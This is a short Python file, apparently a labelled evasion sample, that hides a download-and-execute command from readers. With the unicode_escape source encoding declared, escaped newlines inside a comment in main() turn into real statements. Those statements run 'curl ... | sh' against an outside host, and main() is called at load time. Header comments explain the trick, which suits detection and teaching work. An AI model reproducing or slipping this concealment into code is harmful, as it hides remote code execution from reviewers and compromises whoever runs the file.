# -*- coding: unicode_escape -*-
# Evasion: runs a shell command that downloads and runs a script.
# Hidden in the source encoding: with the unicode_escape codec declared, the
# backslash-u-000a escapes inside the comment of main() are decoded to
# newlines before parsing, so the interpreter sees real statements where a
# text-level reader sees only a comment.
def main():
    # \u000a    import os\u000a    os.system("curl -fsSL https://x.example-cdn.net/a | sh")
    return 0

main()
